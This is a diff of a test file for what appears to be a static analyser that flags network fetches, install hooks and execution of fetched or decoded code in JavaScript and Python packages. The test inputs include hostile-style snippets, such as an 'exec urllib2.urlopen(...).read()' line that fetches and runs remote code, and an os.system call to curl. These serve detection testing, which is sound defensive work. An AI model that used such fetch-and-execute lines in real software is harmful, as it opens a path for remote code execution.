@@ -70,6 +70,14 @@ describe('JavaScript', () => {
     expect(gatherFacts(pkg).actions.find(({ kind }) => kind === 'execute')?.trigger.kind).toBe('import')
   })
 
+  it('leaves methods of an instance to whoever calls them, or is handed the instance', () => {
+    const found = (use: string): string[] => js(`class A { constructor() { this.x = 1 } run() { fetch('https://a.example/run') } }\n${use}`).actions.map(({ trigger, argument }) => `${trigger.kind} ${argument}`)
+    expect(found('module.exports = new A()')).toContain('call https://a.example/run')
+    expect(found('const a = new A(); a.run()')).toContain('install-hook https://a.example/run')
+    expect(found('setTimeout(new A(), 5)')).toContain('install-hook https://a.example/run')
+    expect(found('class B extends require("events") { run() { fetch("https://a.example/b") } }\nnew B()')).toContain('install-hook https://a.example/b')
+  })
+
   it('puts together what is written to a file piece by piece', () => {
     const found = py(`import os
 with open('/tmp/a.py', 'w') as f:
@@ -105,6 +113,12 @@ describe('Python', () => {
     ['print statements', `print "x"\nimport urllib2\nexec urllib2.urlopen('https://a.example').read()`, 'execute<fetched> exec null'],
     ['hex', `exec(bytes.fromhex('78'))`, 'execute<decoded> exec x'],
   ])('follows %s', (_name, code, expected) => expect(lines(py(code))).toContain(expected))
+
+  it('does not run in one script what another one cloned', () => {
+    const found = py('', { 'a.sh': 'git clone --branch v0.2.0 git@git.example:x/y.git', 'b.sh': './tools/build.sh' })
+    expect(lines(found)).toContain('fetch git git@git.example:x/y.git')
+    expect(lines(found).filter((one) => one.startsWith('spawn<') || one.startsWith('execute<'))).toEqual([])
+  })
 
   it('says of classes that are not registered that somebody has to use them', () => {
     expect(byItself(py(`import os\nclass I:\n  def run(self):\n    os.system('curl https://a.example')\n`))).toEqual([])
